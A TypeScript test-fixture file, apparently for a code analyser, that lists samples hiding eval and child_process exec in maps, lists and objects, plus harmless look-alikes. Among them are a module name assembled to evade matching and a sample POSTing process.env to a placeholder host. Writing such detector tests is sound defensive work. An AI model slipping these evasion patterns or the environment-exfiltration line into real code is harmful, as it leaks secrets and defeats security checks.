import type { Sample } from './sample.ts';

/** A dangerous function put into an object, a list or a map, and called from there. Labelled before the evaluator was mended. */
export const CONTAINED: readonly Sample[] = [
  {
    name: 'exec in a list of pairs',
    file: 'a.cjs',
    text: "const tools = Object.fromEntries([['run', require('child_process').exec]]);\ntools.run('id');",
  },
  {
    name: 'pairs with a name from pieces',
    file: 'a.js',
    text: "const o = Object.fromEntries([['x' + 'y', eval], ['z', String]]);\no.xy('1');",
  },
  {
    name: 'pairs made by a function',
    file: 'a.js',
    text: "const o = Object.fromEntries(['x'].map((name) => [name, eval]));\no.x('1');",
  },
  { name: 'pairs from a map', file: 'a.js', text: "Object.fromEntries(new Map([['x', eval]])).x('1');" },
  { name: 'taken from a map', file: 'a.js', text: "const tools = new Map([['x', eval]]);\ntools.get('x')('1');" },
  {
    name: 'taken from a map by any name',
    file: 'a.cjs',
    text: "const { exec } = require('child_process');\nconst tools = new Map([['log', console.log], ['run', exec]]);\ntools.get(process.argv[2])('id');",
  },
  {
    name: 'each function of a map',
    file: 'a.js',
    text: "for (const [name, run] of new Map([['x', eval]])) run(name);",
  },
  { name: 'handed out by a map', file: 'a.js', text: "new Map([['x', eval]]).forEach((run) => run('1'));" },
  { name: 'first value of a map', file: 'a.js', text: "const [run] = new Map([['x', eval]]).values();\nrun('1');" },
  {
    name: 'kept under an object',
    file: 'a.js',
    text: "const key = {};\nconst tools = new WeakMap([[key, eval]]);\ntools.get(key)('1');",
  },
  { name: 'assigned to a fresh object', file: 'a.js', text: "const t = Object.assign({}, { go: eval });\nt.go('1');" },
  {
    name: 'assigned to an object that is there',
    file: 'a.cjs',
    text: "const t = {};\nObject.assign(t, { go: require('child_process').execSync });\nt.go('id');",
  },
  { name: 'last of several assigned', file: 'a.js', text: "Object.assign({ a: 1 }, { b: 2 }, { go: eval }).go('1');" },
  {
    name: 'defined as a property',
    file: 'a.js',
    text: "const t = {};\nObject.defineProperty(t, 'go', { value: eval });\nt.go('1');",
  },
  {
    name: 'spread into an object',
    file: 'a.js',
    text: "const from = { go: eval };\nconst t = { a: 1, ...from };\nt.go('1');",
  },
  {
    name: 'spread into a list',
    file: 'a.js',
    text: "const from = [String, eval];\nconst [, go] = [...from];\ngo('1');",
  },
  { name: 'second of a list', file: 'a.js', text: "const [, go] = [String, eval];\ngo('1');" },
  { name: 'nested lists', file: 'a.js', text: "const [[, [go]]] = [[0, [eval]]];\ngo('1');" },
  { name: 'swapped names', file: 'a.js', text: "let a = String;\nlet b = eval;\n[a, b] = [b, a];\na('1');" },
  { name: 'list into a property', file: 'a.js', text: "const t = {};\n[t.go] = [eval];\nt.go('1');" },
  { name: 'object into a property', file: 'a.js', text: "const t = {};\n({ x: t.go } = { x: eval });\nt.go('1');" },
  { name: 'rest of an object', file: 'a.js', text: "const { a, ...rest } = { a: 1, go: eval };\nrest.go('1');" },
  { name: 'values of an object', file: 'a.js', text: "Object.values({ x: eval })[0]('1');" },
  { name: 'entries of an object', file: 'a.js', text: "for (const [, run] of Object.entries({ x: eval })) run('1');" },
  {
    name: 'found among entries',
    file: 'a.js',
    text: "const [, run] = Object.entries({ a: String, x: eval }).find(([name]) => name === 'x');\nrun('1');",
  },
  { name: 'in a set', file: 'a.js', text: "for (const run of new Set([eval])) run('1');" },
  { name: 'set spread into a list', file: 'a.js', text: "[...new Set([eval])][0]('1');" },
  { name: 'list from a list', file: 'a.js', text: "Array.from([eval])[0]('1');" },
  { name: 'last of a list', file: 'a.js', text: "[String, eval].at(-1)('1');" },
  { name: 'popped off a list', file: 'a.js', text: "const list = [String, eval];\nlist.pop()('1');" },
  { name: 'part of a list', file: 'a.js', text: "const [go] = [String, eval].slice(1);\ngo('1');" },
  { name: 'found in a list', file: 'a.js', text: "[String, eval].find((one) => one.name.length === 4)('1');" },
  { name: 'flattened list', file: 'a.js', text: "[[String], [eval]].flat()[1]('1');" },
  {
    name: 'module loaded from a map of names',
    file: 'a.cjs',
    text: "const names = new Map([['p', 'child_' + 'process']]);\nrequire(names.get('p')).exec('id');",
  },
  {
    name: 'environment sent out of a map',
    file: 'a.js',
    text: "const parts = new Map([['e', process['env']]]);\nfetch('https://h.example', { method: 'POST', body: JSON.stringify(parts.get('e')) });",
  },
];

/** The same shapes with nothing dangerous in them, or with something dangerous that nobody calls. */
export const CONTAINED_HARMLESS: readonly Sample[] = [
  {
    name: 'object of checks from pairs',
    file: 'a.js',
    text: "const checks = Object.fromEntries([['text', String], ['number', Number]]);\nexport const read = (kind, value) => checks[kind](value);",
  },
  {
    name: 'handlers in a map',
    file: 'a.js',
    text: "const handlers = new Map([['open', () => 1], ['close', () => 2]]);\nexport const handle = (event) => handlers.get(event.type)?.(event);",
  },
  {
    name: 'names of dangerous functions in a map',
    file: 'a.js',
    text: "const level = new Map([['eval', 'error'], ['exec', 'warn']]);\nexport const of = (name) => level.get(name).toUpperCase();",
  },
  {
    name: 'dangerous and harmless functions under their names',
    file: 'a.js',
    text: "const kinds = Object.fromEntries([['eval', eval], ['text', String]]);\nexport const text = (value) => kinds.text(value);",
  },
  {
    name: 'list of globals that a linter knows',
    file: 'a.js',
    text: 'const known = new Set([eval, parseInt, isNaN]);\nexport const isKnown = (value) => known.has(value);',
  },
  {
    name: 'options put together',
    file: 'a.js',
    text: "export const options = (given) => Object.assign({ retries: 3, log: console.log }, given);\noptions({}).log('x');",
  },
  {
    name: 'harmless member beside the module',
    file: 'a.cjs',
    text: "const cp = require('os');\nconst t = { ...cp, go: String };\nt.go('1');\nt.hostname();",
  },
  {
    name: 'pattern behind a key',
    file: 'a.js',
    text: "const patterns = new Map([['id', /^[a-z]+$/], ['ip', /^[\\d.]+$/]]);\nexport const ids = (line) => patterns.get('id').exec(line);",
  },
  {
    name: 'counts in a map',
    file: 'a.ts',
    text: 'export const count = (words: string[]) => {\n  const counts = new Map<string, number>();\n  for (const word of words) counts.set(word, (counts.get(word) ?? 0) + 1);\n  return Object.fromEntries([...counts].sort((a, b) => b[1] - a[1]));\n};',
  },
  {
    name: 'every function of an object',
    file: 'a.js',
    text: 'const steps = { first: () => 1, second: () => 2 };\nfor (const [name, step] of Object.entries(steps)) console.log(name, step());',
  },
  {
    name: 'first and rest of a list',
    file: 'a.js',
    text: 'const [head, ...tail] = [Math.min, Math.max];\nhead(1, 2);\ntail.map((each) => each(1, 2));',
  },
  {
    name: 'property with a getter',
    file: 'a.js',
    text: "const t = {};\nObject.defineProperty(t, 'size', { get: () => 3, enumerable: true });\nt.size.toFixed();",
  },
];
